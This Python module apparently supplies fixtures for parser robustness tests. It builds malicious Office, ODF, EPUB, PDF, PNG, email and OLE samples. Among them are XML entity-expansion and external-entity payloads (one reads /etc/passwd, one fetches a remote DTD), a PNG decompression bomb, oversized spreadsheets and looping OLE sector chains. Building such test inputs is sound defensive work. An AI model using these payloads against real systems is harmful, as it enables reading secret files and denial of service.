"""Office files, PDFs, pages, mails and pictures that want to hurt whoever reads them."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from hostile_archives import zipped
from parser_samples import WORDS, docx, epub, office, open_document, package, pdf, xlsx
from pdf_samples import assemble

LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{n} "' + f"&a{n - 1};" * 10 + '">' for n in range(1, 12))
    + "]>"
)
OUTSIDE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
FETCHED = '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://192.0.2.1/x.dtd">%a;]>'
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def word(body: str, head: str = "", more: dict[str, str] | None = None) -> bytes:
    text = f'{head}<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'
    return office("word/document.xml", "wordprocessingml.document", text, more)


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def with_links(main: bytes, part: str, kind: str, target: str) -> bytes:
    """An Office file with a link that leads to another machine."""
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    links = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rX" '
        f'Type="{base}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )
    out = io.BytesIO(main)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(part, links)
    return out.getvalue()


def with_part(main: bytes, part: str, change: Callable[[str], str]) -> bytes:
    """The same package with one part rewritten."""
    with zipfile.ZipFile(io.BytesIO(main)) as archive:
        parts = {name: archive.read(name).decode() for name in archive.namelist()}
    return package({**parts, part: change(parts[part])})


def book(content: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(epub())) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    return zipped({**parts, "c.xhtml": content})


def portable(*objects: bytes) -> bytes:
    """A PDF of these objects, numbered from 1."""
    return assemble(objects)


def page(content: bytes, *, catalog: str = "", box: str = "0 0 595 842", packed: bool = False, more: str = "") -> bytes:
    data = zlib.compress(content, 9) if packed else content
    kind = "/Filter /FlateDecode " if packed else ""
    return portable(
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>".encode(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [{box}] /Contents 4 0 R "
        f"/Resources << /Font << /F1 5 0 R >> {more} >> >>".encode(),
        f"<< {kind}/Length {len(data)} >>\nstream\n".encode() + data + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    )


def locked_pdf() -> bytes:
    import pypdf

    writer = pypdf.PdfWriter(clone_from=pypdf.PdfReader(io.BytesIO(pdf())))
    writer.encrypt("secret", algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def locked_docx() -> bytes:
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    OOXMLFile(io.BytesIO(docx())).encrypt("secret", out)
    return out.getvalue()


def picture_bomb() -> bytes:
    """A PNG of 30,000 × 30,000 pixels in some kilobytes."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    header = struct.pack(">IIBBBBB", 30_000, 30_000, 1, 0, 0, 0, 0)
    squeeze = zlib.compressobj(9)
    rows = b"".join(squeeze.compress(b"\0" * 3_751 * 100) for _ in range(300)) + squeeze.flush()
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def mail(headers: str, body: str) -> bytes:
    return f"From: a@example.com\nSubject: Leave\nMIME-Version: 1.0\n{headers}\n\n{body}".encode()


def attached(*names: str) -> bytes:
    parts = "".join(
        f'--b\nContent-Type: text/plain\nContent-Disposition: attachment; filename="{name}"\n\n{WORDS}\n'
        for name in names
    )
    return mail(
        'Content-Type: multipart/mixed; boundary="b"', f"--b\nContent-Type: text/plain\n\n{WORDS}\n{parts}--b--\n"
    )


def sheet_of_claims() -> bytes:
    """Two cells at the far corners of a sheet: a table of 17,000,000,000 cells for who lays it out."""
    far = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    return with_part(xlsx(), "xl/worksheets/sheet1.xml", lambda text: text.replace("</sheetData>", far))


def repeated_cells() -> bytes:
    cell = (
        '<table:table-cell table:number-columns-repeated="1000000000" office:value-type="string"><text:p>x</text:p>'
        "</table:table-cell>"
    )
    row = f'<table:table-row table:number-rows-repeated="1000000000">{cell}</table:table-row>'
    return open_document(
        "spreadsheet", f'<office:spreadsheet><table:table table:name="s">{row}</table:table></office:spreadsheet>'
    )


def looping_ole(where: str = "table") -> bytes:
    """An OLE file whose allocation table, the chain of its sectors, or the table of small sectors leads in a circle.

    "" for one that does not.
    """
    head, end = bytearray(512), 0xFFFFFFFE
    head[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", head, 24, 0x3E, 3, 0xFFFE, 9, 6)
    chain = 2 if where == "chain" else end
    struct.pack_into("<IIIIIIIII", head, 44, 1, 1, 0, 4096, 3, 1, chain, 0, 0)
    struct.pack_into("<109I", head, 76, 0, *[0xFFFFFFFF] * 108)
    table = struct.pack("<4I", 0xFFFFFFFD, 1 if where == "table" else end, 0xFFFFFFFC, end) + b"\xff" * 496
    more = b"\xff" * 508 + struct.pack("<I", chain)
    small = struct.pack("<2I", 1, 0 if where == "small" else end) + b"\xff" * 504
    return bytes(head) + table + bytes(512) + more + small
